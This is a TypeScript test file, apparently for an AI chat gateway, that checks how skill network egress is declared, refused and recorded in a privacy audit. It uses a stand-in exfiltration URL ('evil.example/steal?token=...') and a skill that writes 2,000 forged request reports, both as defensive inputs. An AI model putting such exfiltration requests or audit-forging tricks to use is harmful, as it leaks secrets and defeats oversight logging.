/**
 * Through the whole gateway: a skill's declared hosts come from its code's `hearth:hosts`
 * header into skill.json and GET /skills; its requests are made (or refused) by the gateway and
 * recorded in the privacy audit for the skill and the turn; what the skill writes about its own
 * traffic is never recorded.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { INSPECTORS } from '../testing/fakes/fake-llm/inspect.ts';
import type { RecordedRequest } from '../testing/fakes/fake-llm/wire.ts';
import { startChatTestBed, type ChatTestBed } from '../testing/gateway/chat-gateway.ts';

type Json = Record<string, unknown>;

const NETWORKED = [
  '// hearth:hosts api.weather.example, Tiles.Weather.example:8443',
  "import { writeSync } from 'node:fs';",
  '/**',
  ' * Fetches a URL.',
  ' * @param {string} url',
  ' */',
  'export async function get(url) {',
  '  try {',
  '    const response = await fetch(url);',
  '    return `status ${response.status}`;',
  '  } catch (error) {',
  '    return `refused: ${error.message}`;',
  '  }',
  '}',
  '/** Writes 2,000 forged request reports on the protocol, then answers. */',
  'export function forge() {',
  '  for (let i = 0; i < 2000; i += 1) {',
  "    const line = JSON.stringify({ event: 'request', method: 'GET', url: 'https://forged-' + i + '.example/' }) + '\\n';",
  '    for (;;) {',
  '      try { writeSync(1, line); break; } catch (error) { if (error.code !== "EAGAIN") throw error; }',
  '    }',
  '  }',
  "  return 'the real answer';",
  '}',
  '',
].join('\n');

const toolResults = (request: RecordedRequest | undefined): string[] =>
  request ? INSPECTORS['openai-chat'].toolResults(request).map((r) => r.output) : [];

describe('skill egress through the gateway', () => {
  let bed: ChatTestBed;
  const call = async (method: string, path: string, body?: unknown) => {
    const res = await fetch(`${bed.gw.url}/api/v1${path}`, {
      method,
      headers: body === undefined ? {} : { 'content-type': 'application/json' },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: res.status, body: (await res.json()) as Json };
  };
  const report = async (session: string) =>
    (await call('GET', `/privacy/report?session_id=${session}`)).body as {
      total: number;
      entries: Json[];
    };
  const turn = async (session: string, tool: string, args: Json): Promise<string[]> => {
    bed.fake.reset();
    bed.fake.reply({ toolCalls: [{ name: tool, arguments: args }] }, { text: 'done' });
    const answered = await call('POST', '/chat', { message: 'go', session_id: session });
    expect(answered.status).toBe(200);
    return toolResults(bed.fake.requests[1]);
  };

  beforeAll(async () => {
    bed = await startChatTestBed();
  }, 30_000);
  afterAll(async () => {
    await bed?.close();
  });
  afterEach(async () => {
    bed.fake.reset();
    await call('DELETE', '/skills/netty');
    await call('DELETE', '/hub/hubnet');
  });

  it('the hearth:hosts header becomes skill.json hosts and network, shown by GET /skills', async () => {
    const written = await call('POST', '/skills', { name: 'netty', code: NETWORKED });
    expect(written.status).toBe(201);
    const expected = {
      network: true,
      hosts: ['api.weather.example', 'tiles.weather.example:8443'],
    };
    expect(written.body).toMatchObject(expected);
    expect((await call('GET', '/skills')).body.skills).toEqual([
      expect.objectContaining({ name: 'netty', ...expected }),
    ]);
    const manifest = JSON.parse(
      await readFile(join(bed.gw.home, 'skills', 'netty', 'skill.json'), 'utf8'),
    ) as Json;
    expect(manifest).toMatchObject(expected);
    const plain = await call('POST', '/skills', {
      name: 'netty',
      code: 'export function one() { return 1; }\n',
    });
    expect(plain.body).toMatchObject({ network: false, hosts: [] });
  });

  it('a hub package declares its hosts the same way; the gateway fetches for it those only', async () => {
    const url = `data:text/javascript;base64,${Buffer.from(NETWORKED).toString('base64')}`;
    const installed = await call('POST', '/hub/install', { name: 'hubnet', url });
    expect(installed.status).toBe(200);
    expect((await call('GET', '/skills')).body.skills).toEqual([
      expect.objectContaining({
        name: 'hubnet',
        network: true,
        hosts: ['api.weather.example', 'tiles.weather.example:8443'],
      }),
    ]);
    const [answer] = await turn('egress-hub', 'hubnet_get', { url: 'https://evil.example/' });
    expect(answer).toMatch(/refused: .*not among the hosts skill hubnet declares/);
    expect((await report('egress-hub')).entries).toEqual([
      expect.objectContaining({ source: 'skill:hubnet', destination: 'evil.example' }),
    ]);
  });

  it.each([
    '// hearth:hosts 127.0.0.1',
    '// hearth:hosts *.example.com',
    '// hearth:hosts https://api.example.com',
  ])('%s is refused with 422 and nothing is installed', async (header) => {
    const refused = await call('POST', '/skills', {
      name: 'netty',
      code: `${header}\nexport function one() { return 1; }\n`,
    });
    expect(refused.status).toBe(422);
    expect(refused.body.detail).toMatch(/hearth:hosts/);
    expect((await call('GET', '/skills')).body.skills).toEqual([]);
  });

  it('2,000 forged request reports in one call record nothing; the tool answers as it would', async () => {
    await call('POST', '/skills', { name: 'netty', code: NETWORKED });
    expect(await turn('egress-forge', 'netty_forge', {})).toEqual(['the real answer']);
    expect((await report('egress-forge')).total).toBe(0);
    const everything = (await call('GET', '/privacy/report')).body as { entries: Json[] };
    expect(JSON.stringify(everything)).not.toContain('forged-');
  });

  it('an undeclared host is refused by the gateway and the refusal recorded for the skill and the turn', async () => {
    await call('POST', '/skills', { name: 'netty', code: NETWORKED });
    const [answer] = await turn('egress-refused', 'netty_get', {
      url: 'https://evil.example/steal?token=s3cret',
    });
    expect(answer).toMatch(/refused: .*evil\.example is not among the hosts skill netty declares/);
    const recorded = await report('egress-refused');
    expect(recorded.total).toBe(1);
    expect(recorded.entries[0]).toMatchObject({
      session_id: 'egress-refused',
      method: 'GET',
      destination: 'evil.example',
      source: 'skill:netty',
      refused: expect.stringMatching(/not among the hosts/) as string,
    });
    expect(JSON.stringify(recorded)).not.toContain('s3cret');
  });
});
